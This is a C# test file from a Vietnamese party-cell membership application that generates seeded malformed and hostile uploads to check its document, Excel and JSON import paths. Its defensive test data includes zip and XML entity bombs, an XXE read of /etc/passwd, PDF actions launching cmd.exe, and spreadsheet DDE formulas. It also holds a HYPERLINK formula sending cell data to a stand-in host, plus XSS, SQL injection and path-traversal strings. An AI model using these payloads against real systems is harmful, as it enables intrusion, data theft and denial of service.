using System.Globalization;
using System.IO.Compression;
using System.Text;
using System.Text.Json.Nodes;
using ChiBo.Members;
using ChiBo.Members.Excel;
using ChiBo.Tests.Documents;
using ChiBo.Transfers;

namespace ChiBo.Tests.Reliability;

/// <summary>Where a file is sent: the library upload, the member Excel import, the transfer package import.</summary>
public enum Target
{
    Documents,
    MemberImport,
    TransferImport,
}

/// <summary>
/// What must happen to a file: refused with a Vietnamese message matching <see cref="HostileFile.Message"/>;
/// accepted (a benign but odd file, checked by <see cref="HostileFile.Check"/>); or either (corrupt bytes
/// that may or may not leave a readable file: refused by name, or accepted as what it now is).
/// </summary>
public enum Expect
{
    Refused,
    Accepted,
    Either,
}

/// <param name="Check">For an accepted file: what the register must then hold (the text read, the rows imported).</param>
public sealed record HostileFile(
    Target Target, string Class, string Name, string ContentType, byte[] Content, Expect Expect, string Message, Func<Accepted, string?>? Check = null)
{
    public override string ToString() => $"{Target}/{Class}/{Name} ({Content.Length} B)";
}

/// <summary>What an accepted file became: the document's text, or the members imported.</summary>
public sealed record Accepted(string? Text, IReadOnlyList<string> MemberNames);

/// <summary>
/// A generator of malformed and hostile files, the same on every run (seeded): truncated and
/// corrupt PDF, Word, Excel and JSON; zip and stream bombs; wrong types behind right extensions;
/// formula and script payloads; cells of 10 MB; wrong encodings; Unicode tricks in names and in
/// contents. Each class says what must happen to its files.
/// </summary>
public static class HostileFiles
{
    public const string Cell = "AG.01.01.01";
    private const string Pdf = "application/pdf";
    private const string Docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    private const string Xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    private const string Json = "application/json";
    private const string Text = "text/plain";

    /// <summary>Messages: Vietnamese, and what each kind of refusal names.</summary>
    private const string NotPdf = "không phải tệp PDF|Không đọc được nội dung tệp PDF";
    private const string NotWord = "không phải tệp Word|Không đọc được nội dung tệp Word";
    private const string NotExcel = "không phải tệp Excel";
    private const string Bomb = "giải nén|nén độc hại";
    private const string BadPackage = "Gói chuyển sinh hoạt";
    private const string AnyZip = "|zip bomb|phần nén|giải nén";

    /// <summary>Truncations and corruptions per base file.</summary>
    private const int Variants = 90;

    private static readonly string[] Lines = ["NGHỊ QUYẾT VỀ CÔNG TÁC XÂY DỰNG ĐẢNG", "Đảng ủy xã quyết nghị nâng cao chất lượng sinh hoạt chi bộ.", "Mỗi đảng viên học tập và làm theo tư tưởng, đạo đức, phong cách Hồ Chí Minh."];

    public static IEnumerable<HostileFile> All() => Documents().Concat(MemberSheets()).Concat(Packages());

    // ---------------------------------------------------------------- documents

    public static IEnumerable<HostileFile> Documents()
    {
        var random = new Random(20251124);
        var pdf = SampleFiles.Pdf(Lines);
        var docx = SampleFiles.Docx(Lines);
        var text = Encoding.UTF8.GetBytes(string.Join('\n', Lines));

        foreach (var cut in Cuts(pdf.Length, Variants))
        {
            yield return new(Target.Documents, "pdf-truncated", $"cat-{cut}.pdf", Pdf, pdf[..cut], Expect.Either, NotPdf, Faithful);
        }

        foreach (var (i, bytes) in Corrupt(pdf, Variants, random))
        {
            yield return new(Target.Documents, "pdf-corrupt", $"hong-{i}.pdf", Pdf, bytes, Expect.Either, NotPdf);
        }

        yield return new(Target.Documents, "pdf-bomb", "bom-flate.pdf", Pdf, PdfWithContent(Deflated(300, zlib: true), "/FlateDecode"), Expect.Refused, Bomb);
        yield return new(Target.Documents, "pdf-bomb", "bom-deflate-tho.pdf", Pdf, PdfWithContent(Deflated(300, zlib: false), "/FlateDecode"), Expect.Refused, Bomb);
        yield return new(Target.Documents, "pdf-bomb", "bom-hai-lop.pdf", Pdf, PdfWithContent(Deflate(Deflated(300, zlib: true), zlib: true), "[/FlateDecode /FlateDecode]"), Expect.Refused, Bomb);
        yield return new(Target.Documents, "pdf-bomb", "bom-lzw.pdf", Pdf, PdfWithContent(Lzw(300), "/LZWDecode"), Expect.Refused, Bomb + "|" + NotPdf);
        yield return new(Target.Documents, "pdf-bomb", "bom-runlength.pdf", Pdf, PdfWithContent(RunLength(4), "/RunLengthDecode"), Expect.Refused, Bomb + "|" + NotPdf);
        yield return new(Target.Documents, "pdf-bomb", "bom-nhieu-luong.pdf", Pdf, PdfWithContents(Enumerable.Repeat(Deflated(40, zlib: true), 8).ToList()), Expect.Refused, Bomb);
        // A standard font's ToUnicode map is not needed to read its text: PdfPig does not inflate it, nothing to refuse.
        yield return new(Target.Documents, "pdf-bomb", "bom-font.pdf", Pdf, PdfWithToUnicode(Deflated(300, zlib: true)), Expect.Either, Bomb);
        yield return new(Target.Documents, "pdf-pages", "3001-trang.pdf", Pdf, PdfWithPages(3_001), Expect.Refused, "trang");
        yield return new(Target.Documents, "pdf-pages", "dem-trang-gia.pdf", Pdf, PdfWithFalseCount(), Expect.Either, "trang|" + NotPdf);
        yield return new(Target.Documents, "pdf-nesting", "long-sau.pdf", Pdf, PdfWithExtra($"/X {new string('[', 200_000)}{new string(']', 200_000)}"), Expect.Either, NotPdf);
        yield return new(Target.Documents, "pdf-nesting", "tu-dien-sau.pdf", Pdf,
            PdfWithExtra("/X " + string.Concat(Enumerable.Repeat("<< /A ", 50_000)) + string.Concat(Enumerable.Repeat(">> ", 50_000))), Expect.Either, NotPdf);
        yield return new(Target.Documents, "pdf-xref", "xref-vong.pdf", Pdf, PdfWithXrefLoop(), Expect.Either, NotPdf);
        yield return new(Target.Documents, "pdf-encrypted", "mat-khau.pdf", Pdf, PdfWithTrailer("/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 /Length 128 >>"), Expect.Either, NotPdf);
        yield return new(Target.Documents, "pdf-script", "javascript.pdf", Pdf,
            PdfWithCatalog("/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\);) >>"), Expect.Accepted, "", Faithful);
        yield return new(Target.Documents, "pdf-script", "lien-ket.pdf", Pdf,
            PdfWithCatalog("/OpenAction << /S /Launch /F (cmd.exe) >> /URI << /Base (javascript:alert\\(1\\)) >>"), Expect.Accepted, "", Faithful);

        foreach (var (kind, bytes) in WrongTypes())
        {
            if (kind != "pdf-that")
            {
                yield return new(Target.Documents, "wrong-type-as-pdf", $"{kind}.pdf", Pdf, bytes, Expect.Refused, NotPdf);
            }

            if (kind != "docx-that")
            {
                yield return new(Target.Documents, "wrong-type-as-docx", $"{kind}.docx", Docx, bytes, Expect.Refused, NotWord);
            }
        }

        foreach (var cut in Cuts(docx.Length, Variants))
        {
            yield return new(Target.Documents, "docx-truncated", $"cat-{cut}.docx", Docx, docx[..cut], Expect.Refused, NotWord);
        }

        foreach (var (i, bytes) in Corrupt(docx, Variants, random))
        {
            yield return new(Target.Documents, "docx-corrupt", $"hong-{i}.docx", Docx, bytes, Expect.Either, NotWord + AnyZip);
        }

        yield return new(Target.Documents, "docx-bomb", "bom.docx", Docx, WordBomb(120), Expect.Refused, "zip bomb");
        yield return new(Target.Documents, "docx-bomb", "bom-styles.docx", Docx, ReplaceEntry(docx, "word/styles.xml", Repeated(150, (byte)' ')), Expect.Refused, "zip bomb");
        yield return new(Target.Documents, "docx-bomb", "nhieu-phan.docx", Docx, ManyEntries(docx, 1_200), Expect.Refused, "phần nén");
        yield return new(Target.Documents, "docx-bomb", "tong-lon.docx", Docx, LargeTotal(docx, 3, 70), Expect.Refused, "lớn hơn 200 MB");
        yield return new(Target.Documents, "docx-bomb", "khai-sai-co.docx", Docx, LyingSize(WordBomb(60), "word/document.xml"), Expect.Refused, NotWord);
        foreach (var (kind, xml) in XmlAttacks(WordXml("Tấn công")))
        {
            yield return new(Target.Documents, "docx-xml-attack", $"{kind}.docx", Docx, ReplaceEntry(docx, "word/document.xml", Encoding.UTF8.GetBytes(xml)), Expect.Refused, NotWord);
        }

        yield return new(Target.Documents, "docx-no-body", "khong-noi-dung.docx", Docx, ReplaceEntry(docx, "word/document.xml", "<x/>"u8.ToArray()), Expect.Refused, NotWord);
        foreach (var (i, payload) in Payloads().Index())
        {
            var lines = new[] { "Văn bản có nội dung lạ", payload };
            yield return new(Target.Documents, "docx-payload", $"noi-dung-{i}.docx", Docx, SampleFiles.Docx(lines), Expect.Accepted, "", a => Contains(a.Text, payload));
            yield return new(Target.Documents, "txt-payload", $"noi-dung-{i}.txt", Text, Encoding.UTF8.GetBytes(string.Join('\n', lines)), Expect.Accepted, "", a => Contains(a.Text, payload));
        }

        foreach (var (kind, bytes) in WrongEncodings("Nghị quyết của Đảng ủy xã về công tác cán bộ."))
        {
            yield return new(Target.Documents, "txt-encoding", $"{kind}.txt", Text, bytes, Expect.Refused, "UTF-8|văn bản thuần");
        }

        yield return new(Target.Documents, "txt-encoding", "bom-utf8.txt", Text, [0xEF, 0xBB, 0xBF, .. text], Expect.Accepted, "", a => a.Text == string.Join('\n', Lines) ? null : "BOM kept");
        foreach (var (i, trick) in UnicodeTricks().Index())
        {
            yield return new(Target.Documents, "txt-unicode", $"unicode-{i}.txt", Text, Encoding.UTF8.GetBytes("Chỉ thị số 05\n" + trick), Expect.Accepted, "",
                a => Contains(a.Text, trick.Normalize(NormalizationForm.FormC).Trim()));
        }

        yield return new(Target.Documents, "txt-huge", "mot-dong-10mb.txt", Text, Repeated(10, (byte)'a'), Expect.Refused, "ký tự");
        yield return new(Target.Documents, "txt-huge", "tu-khac-nhau-1mb.txt", Text, DistinctWords(1_300_000), Expect.Accepted, "", a => a.Text?.Length > 1_000_000 ? null : "text cut");
        yield return new(Target.Documents, "txt-huge", "qua-20mb.txt", Text, Repeated(21, (byte)'b'), Expect.Refused, "20 MB");
        yield return new(Target.Documents, "txt-binary", "nul.txt", Text, [.. text, 0, .. text], Expect.Refused, "nhị phân|UTF-8");
        yield return new(Target.Documents, "txt-binary", "dieu-khien.txt", Text, [.. text, 1, 2, 3, 0x1B, .. "[31m"u8], Expect.Accepted, "", a => Contains(a.Text, "Đảng ủy xã quyết nghị"));

        foreach (var (i, (name, expect, message)) in TrickyNames().Index())
        {
            yield return new(Target.Documents, "name-trick", name, Text, Encoding.UTF8.GetBytes("Tên tệp lạ số " + i.ToString(CultureInfo.InvariantCulture)), expect, message);
        }
    }

    // ---------------------------------------------------------------- member import

    public static IEnumerable<HostileFile> MemberSheets()
    {
        var random = new Random(19300203);
        var serial = 0;
        (byte[] File, string[] Names) Good(Func<int, Dictionary<string, string>, Dictionary<string, string>>? change = null, int rows = 3)
        {
            var batch = Enumerable.Range(0, rows).Select(i => change is null ? MemberRow(++serial) : change(i, MemberRow(++serial))).ToList();
            return (Sheet(batch), batch.Select(r => r[MemberSheet.FullName]).ToArray());
        }

        foreach (var cut in Cuts(Good().File.Length, Variants))
        {
            var (file, _) = Good();
            yield return new(Target.MemberImport, "xlsx-truncated", $"cat-{cut}.xlsx", Xlsx, file[..Math.Min(cut, file.Length - 1)], Expect.Refused, NotExcel);
        }

        for (var i = 0; i < Variants; i++)
        {
            var (file, names) = Good();
            var bytes = Corrupt(file, 1, random).Single().Bytes;
            yield return new(Target.MemberImport, "xlsx-corrupt", $"hong-{i}.xlsx", Xlsx, bytes, Expect.Either, NotExcel + AnyZip, a => SameNames(a, names));
        }

        var (sample, _) = Good();
        yield return new(Target.MemberImport, "xlsx-bomb", "bom-sheet.xlsx", Xlsx, ReplaceEntry(sample, "xl/worksheets/sheet1.xml", Repeated(150, (byte)' ')), Expect.Refused, "zip bomb");
        yield return new(Target.MemberImport, "xlsx-bomb", "bom-chuoi.xlsx", Xlsx, ReplaceEntry(sample, "xl/sharedStrings.xml", Repeated(150, (byte)' ')), Expect.Refused, "zip bomb");
        yield return new(Target.MemberImport, "xlsx-bomb", "nhieu-phan.xlsx", Xlsx, ManyEntries(sample, 1_200), Expect.Refused, "phần nén");
        yield return new(Target.MemberImport, "xlsx-bomb", "tong-lon.xlsx", Xlsx, LargeTotal(sample, 3, 70), Expect.Refused, "lớn hơn 200 MB");
        yield return new(Target.MemberImport, "xlsx-bomb", "khai-sai-co.xlsx", Xlsx, LyingSize(sample, "xl/worksheets/sheet1.xml"), Expect.Refused, NotExcel);

        foreach (var range in new[] { "A1:XFD20002", "A1:XFD1048576", "A1:CW3", "B2:ZZ9", "XFD1" })
        {
            var (file, _) = Good();
            yield return new(Target.MemberImport, "xlsx-dimension", $"vung-{range.Replace(':', '-')}.xlsx", Xlsx, WithDimension(file, range), Expect.Refused, "cột");
        }

        {
            var (file, names) = Good();
            yield return new(Target.MemberImport, "xlsx-dimension", "vung-100-cot.xlsx", Xlsx, WithDimension(file, "A1:CV4"), Expect.Accepted, "", a => SameNames(a, names));
        }

        foreach (var reference in new[] { "XFD2", "CW3", "AAA1" })
        {
            var (file, _) = Good();
            yield return new(Target.MemberImport, "xlsx-far-cell", $"o-{reference}.xlsx", Xlsx, WithExtraCell(file, reference, "x"), Expect.Refused, "cột");
        }

        yield return new(Target.MemberImport, "xlsx-big-cell", "ten-10mb.xlsx", Xlsx, Good((i, r) => i == 1 ? With(r, MemberSheet.FullName, new string('A', 10 * 1024 * 1024)) : r).File, Expect.Refused, "ký tự" + AnyZip);
        yield return new(Target.MemberImport, "xlsx-big-cell", "o-10mb-inline.xlsx", Xlsx, WithExtraCell(Good().File, "AD3", new string('x', 10 * 1024 * 1024)), Expect.Refused, "ký tự" + AnyZip);
        yield return new(Target.MemberImport, "xlsx-big-cell", "o-4001.xlsx", Xlsx, Good((i, r) => i == 0 ? With(r, MemberSheet.Workplace, new string('x', 4_001)) : r).File, Expect.Refused, "ký tự");
        {
            var (file, names) = Good();
            yield return new(Target.MemberImport, "xlsx-big-cell", "cot-them-4000.xlsx", Xlsx, WithExtraCell(file, "AD2", new string('y', 4_000)), Expect.Accepted, "", a => SameNames(a, names));
        }

        foreach (var (header, length) in new[] { (MemberSheet.FullName, 151), (MemberSheet.Residence, 301), (MemberSheet.PartyCardNumber, 21), (MemberSheet.ForeignLanguage, 101), (MemberSheet.Position, 201) })
        {
            var value = header == MemberSheet.FullName ? "Nguyễn " + new string('A', length - 7) : new string('9', length);
            yield return new(Target.MemberImport, "xlsx-long-field", $"dai-{length}.xlsx", Xlsx, Good((i, r) => i == 2 ? With(r, header, value) : r).File, Expect.Refused,
                $"tối đa {length - 1} ký tự");
        }

        foreach (var (i, payload) in Payloads().Index())
        {
            var (file, names) = Good((k, r) => k == 0 ? With(With(r, MemberSheet.Workplace, payload), MemberSheet.Residence, payload) : r);
            yield return new(Target.MemberImport, "xlsx-payload", $"noi-dung-{i}.xlsx", Xlsx, file, Expect.Accepted, "", a => SameNames(a, names));
        }

        {
            var (file, names) = Good();
            yield return new(Target.MemberImport, "xlsx-formula", "cong-thuc.xlsx", Xlsx, WithFormula(file), Expect.Accepted, "", a => SameNames(a, names));
        }

        foreach (var (kind, xml) in XmlAttacks("<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>&x;</t></si></sst>"))
        {
            yield return new(Target.MemberImport, "xlsx-xml-attack", $"{kind}.xlsx", Xlsx, ReplaceEntry(Good().File, "xl/sharedStrings.xml", Encoding.UTF8.GetBytes(xml)), Expect.Refused, NotExcel);
        }

        foreach (var (kind, bytes) in WrongTypes().Where(t => t.Kind != "xlsx-that"))
        {
            yield return new(Target.MemberImport, "wrong-type-as-xlsx", $"{kind}.xlsx", Xlsx, bytes, Expect.Refused, NotExcel);
        }

        foreach (var (i, trick) in UnicodeTricks().Index())
        {
            var (file, names) = Good((k, r) => k == 1 ? With(r, MemberSheet.FullName, "Lò Văn " + trick) : r);
            yield return new(Target.MemberImport, "xlsx-unicode", $"unicode-{i}.xlsx", Xlsx, file, Expect.Either, "Họ và tên|tối đa|ký tự",
                a => SameNames(a, names.Select(n => VietnameseText(n)).ToArray()));
        }

        yield return new(Target.MemberImport, "xlsx-unicode", "cccd-zero-width.xlsx", Xlsx,
            Good((k, r) => k == 0 ? With(r, MemberSheet.Cccd, r[MemberSheet.Cccd].Insert(3, "\u200B")) : r).File, Expect.Refused, "CCCD");
        yield return new(Target.MemberImport, "xlsx-rows", "20001-dong.xlsx", Xlsx, Good(rows: 20_001).File, Expect.Refused, "tối đa 20000 dòng");
        yield return new(Target.MemberImport, "xlsx-rows", "dong-1048576.xlsx", Xlsx, WithFarRow(Good().File), Expect.Refused, "tối đa 20000 dòng");
    }

    // ---------------------------------------------------------------- transfer packages

    public static IEnumerable<HostileFile> Packages()
    {
        var serial = 0;
        JsonObject Good() => (JsonObject)JsonNode.Parse(Package(++serial))!;
        byte[] Bytes(JsonNode node) => Encoding.UTF8.GetBytes(node.ToJsonString());
        string NameOf(JsonObject p) => p["member"]!["fullName"]!.GetValue<string>();

        {
            var p = Good();
            yield return new(Target.TransferImport, "json-valid", "goi-dung.json", Json, Bytes(p), Expect.Accepted, "", a => SameNames(a, [NameOf(p)]));
        }

        var sample = Encoding.UTF8.GetBytes(Package(++serial));
        foreach (var cut in Cuts(sample.Length, Variants))
        {
            yield return new(Target.TransferImport, "json-truncated", $"cat-{cut}.json", Json, sample[..cut], Expect.Refused, BadPackage);
        }

        var fields = Paths(Good()).ToList();
        foreach (var (path, value) in fields)
        {
            foreach (var (label, wrong) in WrongValues(value))
            {
                var p = Good();
                Set(p, path, wrong?.DeepClone());
                yield return new(Target.TransferImport, "json-wrong-type", $"{string.Join('.', path)}-{label}.json", Json, Bytes(p), Expect.Refused, BadPackage + "|CCCD|Ngày|trạng thái|Dân tộc|Họ và tên|tối đa");
            }
        }

        foreach (var (path, _) in fields.Where(f => f.Path.Length == 1 || f.Path[0] == "member"))
        {
            var p = Good();
            Remove(p, path);
            var required = path is ["schema" or "fromProvince" or "fromCellCode" or "fromCellName" or "destination" or "letterNumber" or "member" or "timeline"] or ["member", "fullName"];
            yield return new(Target.TransferImport, "json-missing", $"thieu-{string.Join('.', path)}.json", Json, Bytes(p), required ? Expect.Refused : Expect.Either,
                BadPackage + "|CCCD|Ngày|Dân tộc|tuổi");
        }

        {
            var p = Good();
            p["timeline"] = "SAU";
            var deep = p.ToJsonString().Replace("\"SAU\"", new string('[', 10_000) + new string(']', 10_000), StringComparison.Ordinal);
            yield return new(Target.TransferImport, "json-deep", "long-sau.json", Json, Encoding.UTF8.GetBytes(deep), Expect.Refused, BadPackage);
            yield return new(Target.TransferImport, "json-deep", "long-sau-tho.json", Json, Encoding.UTF8.GetBytes("{\"timeline\":" + new string('[', 100_000) + new string(']', 100_000) + "}"), Expect.Refused, BadPackage);
        }

        {
            var p = Good();
            p["destination"] = new string('x', 10 * 1024 * 1024);
            yield return new(Target.TransferImport, "json-huge", "chuoi-10mb.json", Json, Bytes(p), Expect.Refused, "quá lớn");
            var q = Good();
            q["timeline"] = new JsonArray(Enumerable.Range(0, 6_000).Select(_ => (JsonNode?)JsonNode.Parse("{\"kind\":\"Registered\",\"date\":\"2020-01-01\",\"cellCode\":\"X\",\"decisionNumber\":null,\"reason\":\"Ghi chú rất dài về quá trình sinh hoạt\",\"details\":null}")).ToArray());
            yield return new(Target.TransferImport, "json-huge", "2mb.json", Json, Bytes(q), Expect.Refused, "quá lớn");
        }

        foreach (var (path, length) in new[] { (new[] { "letterNumber" }, 101), (["fromCellName"], 300), (["member", "fullName"], 151), (["member", "residence"], 301), (["destination"], 301) })
        {
            var p = Good();
            Set(p, path, JsonValue.Create("Nguyễn " + new string('B', length - 7)));
            yield return new(Target.TransferImport, "json-long-field", $"dai-{string.Join('.', path)}.json", Json, Bytes(p), Expect.Refused, "tối đa");
        }

        var text = Package(++serial);
        foreach (var (kind, bytes) in WrongEncodings(text))
        {
            yield return new(Target.TransferImport, "json-encoding", $"{kind}.json", Json, bytes, Expect.Refused, BadPackage);
        }

        {
            var p = Good();
            yield return new(Target.TransferImport, "json-encoding", "bom-utf8.json", Json, [0xEF, 0xBB, 0xBF, .. Bytes(p)], Expect.Accepted, "", a => SameNames(a, [NameOf(p)]));
        }

        {
            var p = Good();
            var json = p.ToJsonString();
            yield return new(Target.TransferImport, "json-syntax", "trung-khoa.json", Json, Encoding.UTF8.GetBytes(json.Insert(1, "\"schema\":\"khac/9\",")), Expect.Refused, BadPackage);
            yield return new(Target.TransferImport, "json-syntax", "chu-thich.json", Json, Encoding.UTF8.GetBytes(json.Insert(1, "/* ghi chú */")), Expect.Refused, BadPackage);
            yield return new(Target.TransferImport, "json-syntax", "dau-phay-cuoi.json", Json, Encoding.UTF8.GetBytes(json[..^1] + ",}"), Expect.Refused, BadPackage);
            yield return new(Target.TransferImport, "json-syntax", "hai-goi.json", Json, Encoding.UTF8.GetBytes(json + json), Expect.Refused, BadPackage);
            yield return new(Target.TransferImport, "json-syntax", "mang.json", Json, Encoding.UTF8.GetBytes("[" + json + "]"), Expect.Refused, BadPackage);
            yield return new(Target.TransferImport, "json-syntax", "null.json", Json, "null"u8.ToArray(), Expect.Refused, BadPackage);
            yield return new(Target.TransferImport, "json-syntax", "rong.json", Json, "{}"u8.ToArray(), Expect.Refused, BadPackage);
        }

        foreach (var (i, payload) in Payloads().Index())
        {
            var p = Good();
            p["member"]!["workplace"] = payload;
            p["letterNumber"] = payload.Length <= 100 ? payload : payload[..100];
            yield return new(Target.TransferImport, "json-payload", $"noi-dung-{i}.json", Json, Bytes(p), Expect.Accepted, "", a => SameNames(a, [NameOf(p)]));
        }

        foreach (var (i, trick) in UnicodeTricks().Index())
        {
            var p = Good();
            p["member"]!["fullName"] = "Lò Văn " + trick;
            yield return new(Target.TransferImport, "json-unicode", $"unicode-{i}.json", Json, Bytes(p), Expect.Either, "Họ và tên|tối đa|ký tự",
                a => SameNames(a, [VietnameseText("Lò Văn " + trick)]));
        }

        foreach (var control in new[] { "\u0000", "\u0007", "\u001B[2J" })
        {
            var p = Good();
            p["member"]!["fullName"] = "Lò Văn" + control + "Ân";
            yield return new(Target.TransferImport, "json-control", $"dieu-khien-{(int)control[0]}.json", Json, Bytes(p), Expect.Refused, "ký tự điều khiển");
        }

        foreach (var (kind, bytes) in WrongTypes().Where(t => t.Kind != "json-that"))
        {
            yield return new(Target.TransferImport, "wrong-type-as-json", $"{kind}.json", Json, bytes, Expect.Refused, BadPackage);
        }
    }

    // ---------------------------------------------------------------- building blocks

    /// <summary>The text a register keeps for a name: NFC, single spaces.</summary>
    private static string VietnameseText(string name) => ChiBo.Text.VietnameseText.Clean(name);

    private static string? Faithful(Accepted a) =>
        a.Text is null || a.Text.Split('\n').All(l => l.Length == 0 || Lines.Any(x => x.Contains(l.Trim(), StringComparison.Ordinal))) ? null : $"text not in the original: {a.Text[..Math.Min(200, a.Text.Length)]}";

    private static string? Contains(string? text, string part) =>
        text is not null && text.Contains(part, StringComparison.Ordinal) ? null : $"text lacks \"{part}\"";

    private static string? SameNames(Accepted a, string[] names) =>
        a.MemberNames.Order(StringComparer.Ordinal).SequenceEqual(names.Select(VietnameseText).Order(StringComparer.Ordinal))
            ? null
            : $"imported [{string.Join(", ", a.MemberNames)}], expected [{string.Join(", ", names)}]";

    /// <summary>Cut points spread over a file, never 0 or its whole length.</summary>
    private static IEnumerable<int> Cuts(int length, int count) =>
        Enumerable.Range(1, count).Select(i => (int)((long)length * i / (count + 1))).Where(c => c > 0 && c < length).Distinct();

    /// <summary>Copies of a file with a few bytes overwritten at random places (the header kept, so the type still matches).</summary>
    private static IEnumerable<(int Index, byte[] Bytes)> Corrupt(byte[] file, int count, Random random)
    {
        for (var i = 0; i < count; i++)
        {
            var copy = (byte[])file.Clone();
            for (var k = 0; k < 1 + random.Next(16); k++)
            {
                copy[8 + random.Next(copy.Length - 8)] = (byte)random.Next(256);
            }

            yield return (i, copy);
        }
    }

    private static IEnumerable<(string Kind, byte[] Bytes)> WrongTypes()
    {
        yield return ("png", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
        yield return ("exe", [.. "MZ"u8, .. new byte[126], .. "PE\0\0"u8, .. new byte[200]]);
        yield return ("elf", [0x7F, .. "ELF"u8, 2, 1, 1, .. new byte[100]]);
        yield return ("html", "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"u8.ToArray());
        yield return ("svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"u8.ToArray());
        yield return ("xls-ole", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]]);
        yield return ("csv", Encoding.UTF8.GetBytes("Họ và tên,Giới tính\nNguyễn Văn A,Nam\n=cmd|' /C calc'!A0,Nam\n"));
        yield return ("zip-rong", EmptyZip());
        yield return ("zip-jar", Zip(("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: X\n"u8.ToArray())));
        yield return ("odt", Zip(("mimetype", "application/vnd.oasis.opendocument.text"u8.ToArray()), ("content.xml", "<office:document-content/>"u8.ToArray())));
        yield return ("gzip", Gzip("Nghị quyết"u8.ToArray()));
        yield return ("rong-1-byte", [0]);
        yield return ("pdf-that", SampleFiles.Pdf("Văn bản PDF thật"));
        yield return ("docx-that", SampleFiles.Docx("Văn bản Word thật"));
        yield return ("xlsx-that", Sheet([MemberRow(999_001)]));
        yield return ("json-that", "{\"schema\":\"chibo.transfer/1\"}"u8.ToArray());
    }

    /// <summary>The same sentence in encodings other than UTF-8, and broken UTF-8.</summary>
    private static IEnumerable<(string Kind, byte[] Bytes)> WrongEncodings(string text)
    {
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        yield return ("utf16le-bom", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(text)]);
        yield return ("utf16be-bom", [0xFE, 0xFF, .. Encoding.BigEndianUnicode.GetBytes(text)]);
        yield return ("utf16le", Encoding.Unicode.GetBytes(text));
        yield return ("utf32", Encoding.UTF32.GetBytes(text));
        yield return ("windows-1258", Encoding.GetEncoding(1258).GetBytes(text.Normalize(NormalizationForm.FormD)));
        yield return ("latin1", Encoding.Latin1.GetBytes(text));
        yield return ("tcvn3", Encoding.Latin1.GetBytes(text).Select(b => b > 0x7F ? (byte)(b ^ 0x20) : b).ToArray());
        yield return ("overlong", [.. Encoding.UTF8.GetBytes(text[..10]), 0xC0, 0xAE, .. Encoding.UTF8.GetBytes(text[10..])]);
        yield return ("surrogate", [.. Encoding.UTF8.GetBytes(text[..10]), 0xED, 0xA0, 0x80, .. Encoding.UTF8.GetBytes(text[10..])]);
        yield return ("cut-sequence", [.. Encoding.UTF8.GetBytes(text), 0xE1, 0xBB]);
    }

    /// <summary>Text that looks like code to a spreadsheet, a browser, a database or a template engine.</summary>
    private static IEnumerable<string> Payloads() =>
    [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào đây\")",
        "=cmd|' /C calc'!A0",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C notepad'!'A1'",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "'; DROP TABLE members; --",
        "{{7*7}} ${7*7} <%= 7*7 %>",
        "javascript:alert(1)",
        "../../../../etc/passwd",
    ];

    /// <summary>Unicode that renders differently from what it is.</summary>
    private static IEnumerable<string> UnicodeTricks() =>
    [
        "Nguye\u0302\u0303n", // NFD: decomposed marks
        "An\u202Egnaig", // right-to-left override
        "Bình\u200Bthường", // zero-width space
        "Hoa\u200Dn", // zero-width joiner
        "Đảng\uFEFF", // BOM inside
        "Ꭺn Gіang", // Cherokee A, Cyrillic i: look-alikes
        "Thu\u0301\u0301\u0301\u0301\u0301y", // stacked combining marks
        "Lan 🌸", // emoji (surrogate pair)
        "ＡＢＣ", // full width
        "Hòa\u00A0Bình", // no-break space
    ];

    /// <summary>File names that try to look like another type, reach another folder, or break a column.</summary>
    private static IEnumerable<(string Name, Expect Expect, string Message)> TrickyNames() =>
    [
        ("hop-dong\u202Efdp.txt", Expect.Accepted, ""),
        ("tai-lieu\u202Etxt.exe", Expect.Refused, "chỉ nhận PDF"),
        ("van-ban.t\u200Bxt", Expect.Refused, "chỉ nhận PDF"),
        ("../../../etc/passwd.txt", Expect.Accepted, ""),
        ("..\\..\\Windows\\win.ini.txt", Expect.Accepted, ""),
        ("CON.txt", Expect.Accepted, ""),
        ("van ban    nhieu   cach .txt", Expect.Accepted, ""),
        ("Nghi\u0323 quye\u0302\u0301t.txt", Expect.Accepted, ""),
        ("🌸.txt", Expect.Accepted, ""),
        (new string('a', 300) + ".txt", Expect.Refused, "Tên tệp"),
        ("xuong\ndong.txt", Expect.Refused, "Tên tệp"),
        ("ky\u0000tu.txt", Expect.Refused, "Tên tệp"),
        ("danh\u0007dau.txt", Expect.Refused, "Tên tệp"),
        (".txt", Expect.Accepted, ""),
        ("van-ban.TXT", Expect.Accepted, ""),
        ("van-ban.txt.", Expect.Refused, "chỉ nhận PDF"),
        ("van-ban.txt ", Expect.Accepted, ""),
    ];

    /// <summary>XML that a careless parser would expand or fetch: entity bombs, external entities.</summary>
    private static IEnumerable<(string Kind, string Xml)> XmlAttacks(string root)
    {
        var body = root.Contains("&x;", StringComparison.Ordinal) ? root : root.Replace("Tấn công", "&x;", StringComparison.Ordinal);
        var lol = "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\">" + string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY {(char)('a' + i)} \"{string.Concat(Enumerable.Repeat($"&{(char)('a' + i - 1)};", 10))}\">")) + "<!ENTITY x \"&j;\">]>";
        yield return ("billion-laughs", "<?xml version=\"1.0\"?>" + lol + body);
        yield return ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + body);
